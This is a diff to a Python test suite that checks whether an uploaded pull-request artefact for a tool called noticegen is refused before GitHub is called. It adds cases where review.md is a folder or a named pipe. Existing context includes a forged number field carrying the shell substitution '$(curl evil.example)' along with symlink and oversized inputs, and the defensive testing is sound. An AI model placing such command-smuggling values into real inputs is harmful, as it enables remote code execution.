@@ -444,6 +444,17 @@ def _forged(case: str, folder: Path) -> Path:
         return artefact(folder, number="7$(curl evil.example)\n")
     if case == "huge number":
         return artefact(folder, number="7" * 100)
+    if case == "a folder for the report":  # a zip holding review.md/x unpacks as one
+        artefact(folder)
+        (folder / "review.md").unlink()
+        (folder / "review.md").mkdir()
+        (folder / "review.md" / "x").write_text("x\n")
+        return folder
+    if case == "a pipe for the report":
+        artefact(folder)
+        (folder / "review.md").unlink()
+        os.mkfifo(folder / "review.md")
+        return folder
     if case == "a link for a folder":
         artefact(folder.parent / "elsewhere")
         folder.symlink_to(folder.parent / "elsewhere")
@@ -453,7 +464,7 @@ def _forged(case: str, folder: Path) -> Path:
 
 @pytest.mark.parametrize("case", ["huge", "no heading", "marker", "control character", "not UTF-8", "link",
                                   "extra file", "no number", "number with a command", "huge number",
-                                  "a link for a folder"])
+                                  "a link for a folder", "a folder for the report", "a pipe for the report"])
 def test_a_forged_or_huge_artefact_is_refused_before_github_is_called(github, actions_env, tmp_path, case):
     """Whatever the pull request's run uploaded is refused unless it is what
     noticegen review writes: one line naming the file, exit 1, no call."""
